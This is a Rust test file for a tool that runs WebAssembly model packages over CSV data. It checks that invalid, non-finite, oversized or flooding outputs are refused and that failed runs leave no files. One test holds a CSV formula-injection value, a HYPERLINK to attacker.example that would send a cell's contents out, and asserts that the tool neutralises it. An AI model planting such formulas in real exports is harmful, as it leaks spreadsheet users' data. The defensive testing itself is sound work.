//! Honest output and clean failure: invalid outputs are refused, a trap leaves no output.

use cordon::RunError;
use cordon::data::DataError;

use crate::support::{
    Case, PROBE_MANIFEST, assert_churn_still_scores, probe_policy, probe_table, read_csv, run_probe,
};

#[test]
fn returning_the_wrong_number_of_rows_is_refused() {
    let error = run_probe(cordon_test_guests::OUTPUT_WRONG_ROWS, "").unwrap_err();
    assert!(matches!(error, RunError::InvalidOutput { .. }), "{error}");
    assert!(error.to_string().contains("3 rows in, 4 out"), "{error}");
    assert_churn_still_scores();
}

#[test]
fn returning_an_undeclared_column_is_refused() {
    let error = run_probe(cordon_test_guests::OUTPUT_UNDECLARED_COLUMN, "").unwrap_err();
    assert!(matches!(error, RunError::InvalidOutput { .. }), "{error}");
    assert!(
        error
            .to_string()
            .contains("column `smuggled` is not declared for output `results`"),
        "{error}"
    );
    assert_churn_still_scores();
}

/// A guest panic ends `cordon run` with exit code 2 and the panic message; no output file is
/// left behind, and an output from an earlier run is left as it was.
#[test]
fn a_trap_exits_2_and_leaves_no_output() {
    let case = Case::new();
    case.package(cordon_test_guests::TRAP_PANIC, PROBE_MANIFEST, &[]);
    // Row 13 makes the guest panic; it is in the second batch, after the first was written.
    case.write("input.csv", &probe_table(40));
    case.write("policy.toml", &probe_policy("batch-rows = 8"));
    let run = || {
        case.cordon(&[
            "run",
            "--package",
            "package",
            "--policy",
            "policy.toml",
            "--no-cache",
        ])
    };

    let output = run();
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("the model trapped"), "{stderr}");
    assert!(
        stderr.contains("unlucky row: the model gives up"),
        "{stderr}"
    );
    assert!(!case.path("out/results.csv").exists());
    let leftovers: Vec<_> = std::fs::read_dir(case.path("out")).unwrap().collect();
    assert!(
        leftovers.is_empty(),
        "temporary files left behind: {leftovers:?}"
    );

    std::fs::write(case.path("out/results.csv"), "an earlier run's output\n").unwrap();
    assert_eq!(run().status.code(), Some(2));
    assert_eq!(
        std::fs::read_to_string(case.path("out/results.csv")).unwrap(),
        "an earlier run's output\n"
    );
    assert_churn_still_scores();
}

/// The output holds the consumer's keys: it is created for its owner alone, whichever way the
/// pending file was made.
#[test]
fn the_output_file_is_private_to_its_owner() {
    use std::os::unix::fs::PermissionsExt;

    let case = Case::new();
    case.package(cordon_test_guests::POLICY_ENV_PROBE, PROBE_MANIFEST, &[]);
    case.write("input.csv", &probe_table(3));
    case.write("policy.toml", &probe_policy(""));
    case.run().unwrap();
    let mode = std::fs::metadata(case.path("out/results.csv"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600, "{mode:o}");
}

/// A guest that recurses without end overflows its stack, which in WebAssembly lives in linear
/// memory: the run says so, not "out of bounds memory access".
#[test]
fn a_deep_recursion_is_reported_as_a_stack_overflow() {
    let error = run_probe(cordon_test_guests::TRAP_DEEP_RECURSION, "").unwrap_err();
    let message = error.to_string();
    assert!(matches!(error, RunError::Trap { .. }), "{message}");
    assert!(message.contains("stack overflow"), "{message}");
    assert!(!message.contains("out of bounds"), "{message}");
    assert_churn_still_scores();
}

/// The output-hostile-values guest's manifest: `x` in, a float `p` and a text `label` out.
const HOSTILE_VALUES_MANIFEST: &str = r#"
manifest-version = 1
[package]
name = "hostile-values"
version = "0.0.0"
publisher = "tests"
license = "MIT"
description = "a test guest"
component = "model.wasm"
[input.rows]
mode = "row"
columns = [{ name = "x", type = "float64" }]
[output.results]
columns = [{ name = "p", type = "float64" }, { name = "label", type = "text" }]
"#;

/// A case with the output-hostile-values guest on a table of `(id, x)` rows; `limits` goes in
/// `[limits]`, `emit` in `[emit.results]` after its sink.
fn hostile_values_case(rows: &[(&str, u32)], limits: &str, emit: &str) -> Case {
    let case = Case::new();
    case.package(
        cordon_test_guests::OUTPUT_HOSTILE_VALUES,
        HOSTILE_VALUES_MANIFEST,
        &[],
    );
    let mut table = String::from("id,x\n");
    for (id, x) in rows {
        table.push_str(&format!("{id},{x}\n"));
    }
    case.write("input.csv", &table);
    case.write("policy.toml", &format!("{}{emit}\n", probe_policy(limits)));
    case
}

/// A NaN probability is refused by default, naming the output, the column, the row and its
/// key; nothing is written.
#[test]
fn a_nan_output_is_refused_by_default() {
    let case = hostile_values_case(&[("c0", 0), ("c1", 1), ("c2", 0)], "", "");
    let error = case.run().unwrap_err();
    assert!(
        matches!(error, RunError::Data(DataError::NonFinite { .. })),
        "{error}"
    );
    let message = error.to_string();
    assert!(
        message.starts_with("output `results` (")
            && message.contains(
                "column `p`, row 2 (id=c1): the model returned NaN; refused by [emit.results] non-finite = \"refuse\""
            ),
        "{message}"
    );
    assert!(!case.path("out/results.csv").exists());

    // The binary: exit code 2 and the same message.
    let output = case.run_cli(&["--no-cache"]);
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("column `p`, row 2 (id=c1)"), "{stderr}");
}

/// With `non-finite = "null"` a NaN or infinity is written as an empty cell.
#[test]
fn a_nan_output_can_be_written_as_null() {
    let case = hostile_values_case(
        &[("c0", 0), ("c1", 1), ("c4", 4)],
        "",
        "non-finite = \"null\"",
    );
    let summary = case.run().unwrap();
    assert_eq!(summary.rows_out, 3);
    let rows = read_csv(&case.path("out/results.csv"));
    let p: Vec<&str> = rows.iter().map(|r| r[1].as_str()).collect();
    assert_eq!(p, ["0.5", "", ""]);
}

/// A text value that a spreadsheet would run as a formula is written with a leading `'`.
#[test]
fn a_formula_in_a_text_output_is_written_neutralised() {
    let case = hostile_values_case(&[("c0", 0), ("c2", 2)], "", "");
    case.run().unwrap();
    let rows = read_csv(&case.path("out/results.csv"));
    assert_eq!(rows[0][2], "ok");
    assert_eq!(rows[1][0], "c2");
    assert_eq!(
        rows[1][2],
        "'=HYPERLINK(\"https://attacker.example/?k=\"&A2,\"details\")"
    );
}

/// One text value over limits.output-text-bytes (64 KiB by default) is refused as output.
#[test]
fn a_text_value_over_the_limit_is_refused() {
    let case = hostile_values_case(&[("c0", 0), ("c3", 3)], "", "");
    let error = case.run().unwrap_err();
    assert!(matches!(error, RunError::InvalidOutput { .. }), "{error}");
    assert!(
        error.to_string().contains(
            "column `label`, row 2 of the batch: a text value of 70000 bytes is over limits.output-text-bytes (\"64 KiB\")"
        ),
        "{error}"
    );
    assert!(!case.path("out/results.csv").exists());
}

/// Rows of 60,000-byte labels, each under the text limit: limits.output-bytes stops the flood
/// with a named error, and no output is left behind.
#[test]
fn output_bytes_stop_a_flood() {
    let rows: Vec<(String, u32)> = (0..100).map(|i| (format!("c{i}"), 10 + i)).collect();
    let rows: Vec<(&str, u32)> = rows.iter().map(|(id, x)| (id.as_str(), *x)).collect();
    let case = hostile_values_case(&rows, "output-bytes = \"1 MiB\"\nbatch-rows = 8", "");
    let error = case.run().unwrap_err();
    assert!(
        matches!(error, RunError::Data(DataError::OutputBytes { .. })),
        "{error}"
    );
    assert!(
        error
            .to_string()
            .contains("the run would write more than 1 MiB (limits.output-bytes) and was stopped"),
        "{error}"
    );
    assert!(!case.path("out/results.csv").exists());
    let leftovers: Vec<_> = std::fs::read_dir(case.path("out")).unwrap().collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
    assert_churn_still_scores();
}
